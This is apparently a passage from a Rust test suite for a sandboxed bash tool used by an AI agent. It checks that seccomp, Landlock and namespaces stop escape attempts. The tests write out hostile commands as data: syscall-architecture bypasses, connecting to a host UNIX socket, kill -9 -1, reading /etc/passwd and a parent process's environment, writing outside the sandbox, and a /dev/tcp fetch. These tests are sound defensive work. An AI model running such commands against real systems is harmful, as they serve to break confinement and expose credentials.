libc = ctypes.CDLL(None, use_errno=True)
print('result:', libc.syscall(0x40000000 + 39), ctypes.get_errno())
";

#[tokio::test]
async fn seccomp_kills_a_32_bit_system_call() {
    let space = Space::new();
    // x32: a number seccomp's rules would match none of. The kernel may have x32 turned off
    // (then it answers ENOSYS); the sandbox kills the process before the kernel is asked.
    if cfg!(target_arch = "x86_64") {
        let x32 = python(&Sandbox::new(), &space.work, X32_CALL, &[]).await;
        assert_eq!(
            x32.code,
            Some(128 + 31),
            "seccomp must kill a process making an x32 system call (SIGSYS):\n{}",
            x32.shown()
        );
        let open = python(&Sandbox::none(), &space.work, X32_CALL, &[]).await;
        assert_eq!(open.code, Some(0), "{}", open.shown());
    }
    let open = python(&Sandbox::none(), &space.work, INT_80, &[]).await;
    if !open.stdout.contains("result: 0") {
        println!(
            "note: 32-bit system calls are not available here, so there is nothing to bypass:\n{}",
            open.shown()
        );
        return;
    }
    let ran = python(&Sandbox::new(), &space.work, INT_80, &[]).await;
    assert_eq!(
        ran.code,
        Some(128 + 31),
        "seccomp's architecture check must kill a process making an i386 system call (SIGSYS):\n{}",
        ran.shown()
    );
    assert!(!ran.stdout.contains("result:"), "{}", ran.shown());
}

#[tokio::test]
async fn the_program_holds_no_capabilities_and_cannot_gain_privileges() {
    let space = Space::new();
    let ran = bash(
        &Sandbox::new(),
        &space.work,
        "grep -E '^(Cap(Inh|Prm|Eff|Bnd|Amb)|NoNewPrivs|Seccomp):' /proc/self/status",
    )
    .await;
    for (field, value) in [
        ("CapInh:", "0000000000000000"),
        ("CapPrm:", "0000000000000000"),
        ("CapEff:", "0000000000000000"),
        ("CapBnd:", "0000000000000000"),
        ("CapAmb:", "0000000000000000"),
        ("NoNewPrivs:", "1"),
        ("Seccomp:", "2"),
    ] {
        assert_eq!(
            ran.line(field),
            value,
            "the program must hold no capabilities, gain no privileges and run under seccomp:\n{}",
            ran.shown()
        );
    }
}

const UNIX_CONNECT: &str = r"
import socket, sys
# A pair of connected sockets (no path, nothing outside) still works.
left, right = socket.socketpair()
left.sendall(b'x')
assert right.recv(1) == b'x'
try:
    client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    client.connect(sys.argv[1])
    client.sendall(b'from the sandbox')
    print('connected')
except OSError as error:
    print('refused', error.strerror)
";

/// An agent's socket (ssh-agent, Docker, D-Bus, X11) outside the allowed paths is a way out
/// of the sandbox that neither the network namespace nor TCP rules close (Landlock guards
/// socket paths only from ABI 9): without the network, seccomp refuses UNIX sockets.
#[tokio::test]
async fn seccomp_refuses_unix_sockets_without_the_network() {
    let space = Space::new();
    let path = space.outside.join("agent.sock");
    let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
    listener.set_nonblocking(true).unwrap();
    let socket = path.display().to_string();
    let ran = python(&Sandbox::new(), &space.work, UNIX_CONNECT, &[&socket]).await;
    let accepted = listener.accept().is_ok();
    assert!(
        ran.stdout.starts_with("refused") && !accepted,
        "a confined program must not reach a host's UNIX socket outside its allowed paths \
         (accepted: {accepted}):\n{}",
        ran.shown()
    );
    // Unconfined, it connects: the test can fail.
    let open = python(&Sandbox::none(), &space.work, UNIX_CONNECT, &[&socket]).await;
    assert_eq!(open.stdout, "connected\n", "{}", open.shown());
}

// 12. A gigabyte of output.

#[tokio::test]
async fn the_bash_tool_caps_a_gigabyte_of_output() {
    let space = Space::new();
    let server = bash_server(&space.work, Sandbox::new());
    let started = Instant::now();
    let result = tokio::time::timeout(
        BOUND,
        server.call(
            "bash",
            json!({ "command": "head -c 1000000000 /dev/zero", "timeout_secs": 55 }),
        ),
    )
    .await
    .expect("the call ends within its time limit");
    assert!(result.success, "{:?}", result.error);
    assert_eq!(result.output["timed_out"], false, "{}", result.output);
    assert_eq!(result.output["exit_code"], 0);
    let omitted = result.output["stdout_omitted"].as_u64().unwrap();
    assert!(
        omitted >= 1_000_000_000 - 32 * 1024,
        "the output cap must leave out all but 32 KiB: {omitted}"
    );
    assert!(result.output["stdout"].as_str().unwrap().len() < 40 * 1024);
    assert!(started.elapsed() < BOUND);
}

// 13. Wall time.

#[tokio::test]
async fn the_wall_time_ends_the_program_and_everything_it_started() {
    let space = Space::new();
    let policy = Sandbox::new().wall_time(Duration::from_secs(1));
    let started = Instant::now();
    let ran = bash(
        &policy,
        &space.work,
        "setsid sleep 86413 & echo started; sleep 86413",
    )
    .await;
    let took = started.elapsed();
    assert_eq!(ran.code, Some(137), "{}", ran.shown());
    assert_eq!(ran.stdout, "started\n");
    assert!(took < Duration::from_secs(10), "{took:?}");
    assert!(
        ran.stderr.contains("wall time"),
        "the launcher must say the wall time ran out:\n{}",
        ran.shown()
    );
    eventually("the wall time ended both sleeps", || {
        processes_running(&["sleep", "86413"]) == 0
    })
    .await;
}

// 14. Signals to the host.

/// A host process the test started, killed when dropped.
struct HostSleep(std::process::Child);

impl Drop for HostSleep {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[tokio::test]
async fn the_pid_namespace_keeps_kill_minus_one_inside() {
    let space = Space::new();
    let host = HostSleep(
        std::process::Command::new("sleep")
            .arg("86414")
            .spawn()
            .unwrap(),
    );
    let (host_pid, test_pid) = (host.0.id(), std::process::id());
    // Should the PID namespace ever fail, the script stops before `kill -9 -1` could reach
    // the host's processes.
    let script = format!(
        r#"
        if [ -e /proc/{host_pid} ] || [ -e /proc/{test_pid} ]; then echo "host visible"; exit 3; fi
        sleep 86415 &
        inner=$!
        kill -9 {host_pid} 2>&1; echo "targeted: $?"
        kill -9 -1; echo "kill -1: $?"
        wait $inner; echo "inner: $?"
        "#
    );
    let ran = bash(&Sandbox::new(), &space.work, &script).await;
    assert_eq!(ran.code, Some(0), "{}", ran.shown());
    assert!(
        !ran.stdout.contains("host visible"),
        "the PID namespace must hide the host's processes:\n{}",
        ran.shown()
    );
    assert!(
        ran.stdout.contains("No such process") && ran.line("targeted:") == "1",
        "the PID namespace must leave the host's sleep out of reach:\n{}",
        ran.shown()
    );
    assert_eq!(
        ran.line("inner:"),
        "137",
        "kill -9 -1 reaches the sandbox's own processes:\n{}",
        ran.shown()
    );
    assert!(
        process_alive(u64::from(host_pid)),
        "the PID namespace must keep kill -9 -1 from the host's sleep"
    );
    assert_eq!(processes_running(&["sleep", "86414"]), 1);
    assert_eq!(processes_running(&["sleep", "86415"]), 0);
}

// 15. The bash tool, as the finding tried it.

#[tokio::test]
async fn the_bash_tool_refuses_passwd_writes_outside_loopback_and_parent_environ() {
    let space = Space::new();
    let server = LoopbackServer::start();
    let escaped = space.outside.join("escaped");
    let command = format!(
        r#"
        cat /etc/passwd && echo "PASSWD-READ"
        echo pwned > {escaped} && echo "WRITTEN-OUTSIDE"
        (exec 3<>/dev/tcp/127.0.0.1/{port} && printf 'GET / HTTP/1.0\r\n\r\n' >&3 && cat <&3) && echo "FETCHED"
        tr '\0' '\n' < /proc/$PPID/environ && echo "ENVIRON-READ"
        true
        "#,
        escaped = escaped.display(),
        port = server.port,
    );
    let tools = bash_server(&space.work, Sandbox::new());
    let result = tools.call("bash", json!({ "command": command })).await;
    assert!(result.success, "{:?}", result.error);
    let shown = result.model_text();
    let stdout = result.output["stdout"].as_str().unwrap();
    let stderr = result.output["stderr"].as_str().unwrap();
    for (marker, what) in [
        ("PASSWD-READ", "Landlock must refuse reading /etc/passwd"),
        ("WRITTEN-OUTSIDE", "Landlock must refuse writing outside"),
        (
            "FETCHED",
            "the network namespace and Landlock must refuse the loopback server",
        ),
        (
            "ENVIRON-READ",
            "the PID namespace and the non-dumpable first process must refuse /proc/$PPID/environ",
        ),
    ] {
        assert!(!stdout.contains(marker), "{what}:\n{shown}");
    }
    for (refusal, what) in [
        ("cat: /etc/passwd: Permission denied", "Landlock, reading"),
        ("/outside/escaped: Permission denied", "Landlock, writing"),
        ("connect: Permission denied", "Landlock, connecting"),
        (
            "/proc/1/environ: Permission denied",
            "the non-dumpable first process",
        ),
    ] {
        assert!(stderr.contains(refusal), "{what} must refuse:\n{shown}");
    }
    assert!(!stdout.contains("root:x:0:0") && !stdout.contains(&server.secret));
    assert!(!escaped.exists());
    assert_eq!(server.connections(), 0);
    for (name, value) in std::env::vars() {
        if name != "PATH" && name != "HOME" && value.len() >= 8 {
            assert!(
                !stdout.contains(&format!("{name}={value}")),
                "the host's {name} must not show:\n{shown}"
            );
        }
    }
    // Unconfined, the first three succeed: the test can fail.
    let open = bash_server(&space.work, Sandbox::none());
    let result = open.call("bash", json!({ "command": command })).await;
    let stdout = result.output["stdout"].as_str().unwrap();
    for marker in ["PASSWD-READ", "WRITTEN-OUTSIDE", "FETCHED"] {
        assert!(stdout.contains(marker), "{}", result.model_text());
    }
    assert!(stdout.contains(&server.secret));
}
